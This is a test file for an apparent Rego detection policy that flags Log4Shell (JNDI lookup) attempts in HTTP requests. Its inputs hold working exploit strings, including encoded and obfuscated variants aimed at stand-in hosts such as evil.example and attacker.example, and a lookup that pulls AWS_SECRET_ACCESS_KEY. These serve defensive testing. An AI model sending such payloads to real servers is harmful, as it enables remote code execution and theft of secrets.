package sentinel.http.log4shell_test

import data.http.log4shell.testdata
import data.sentinel.http.log4shell
import data.sentinel.http.request_test.with_header
import data.sentinel.http.request_test.with_query

# The flows are HTTP requests from the Internet to the frontend, as the
# engine measured them (testdata/flows.jsonl, `make fixtures`); a case with a
# query states it (request_test.with_query).

test_jndi_lookup_in_the_user_agent_alerts if {
	log4shell.violation == {{
		"id": "HTTPLog4ShellAttempt",
		"severity": "critical",
		"title": "Log4Shell (JNDI lookup) attempt in an HTTP request",
		"policy": "sentinel.http.log4shell",
		"summary": "world 203.0.113.77 sent HTTP GET / to shop/frontend with a Log4j lookup in header User-Agent",
		"description": log4shell.violation[_].description,
		"mitre": "T1190",
	}} with input as testdata.jndi_in_user_agent
}

test_lookups_in_the_url_alert if {
	every query in [
		"x=${jndi:ldap://evil.example/a}",
		"x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
		"x=%2524%257Bjndi:ldap://evil/a%257D",
		"x=${${lower:j}ndi:ldap://evil/a}",
		"x=${${::-j}${::-n}${::-d}${::-i}:rmi://evil/a}",
		"x=${j${::-n}di:dns://evil/a}",
		"x=${env:AWS_SECRET_ACCESS_KEY}",
	] {
		some v in log4shell.violation with input as with_query(testdata.root_with_query, query)
		endswith(v.summary, "in the URL")
	}
	some v in log4shell.violation with input as testdata.jndi_in_path
	endswith(v.summary, "in the URL")
}

test_obfuscated_lookups_in_any_header_alert if {
	d := with_header(testdata.shopper, "X-Api-Version", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}")
	some v in log4shell.violation with input as d
	endswith(v.summary, "in header X-Api-Version")
}

test_every_place_is_named if {
	url := with_query(testdata.root_with_query, "x=${jndi:ldap://e/a}")
	d := with_header(with_header(url, "Referer", "${jndi:dns://e/b}"), "X-Api-Version", "${jndi:rmi://e/c}")
	some v in log4shell.violation with input as d
	endswith(v.summary, "in the URL and header Referer and header X-Api-Version")
}

test_dollar_signs_and_templates_do_not_alert if {
	every query in ["price=$100", "tpl=${HOSTNAME}", "x=%7B%22a%22%3A1%7D"] {
		count(log4shell.violation) == 0 with input as with_query(testdata.root_with_query, query)
	}
	count(log4shell.violation) == 0 with input as with_query(testdata.search_with_query, "q=%24100+gift+card")
	count(log4shell.violation) == 0 with input as testdata.template_in_user_agent
}

test_redacted_headers_do_not_alert if {
	count(log4shell.violation) == 0 with input as with_header(testdata.shopper, "Authorization", "HUBBLE_REDACTED")
}

test_no_alert_on_the_response if {
	testdata.jndi_response.sentinel.http.user_agent == "${jndi:ldap://e/a}"
	count(log4shell.violation) == 0 with input as with_query(testdata.jndi_response, "x=${jndi:ldap://e/a}")
}
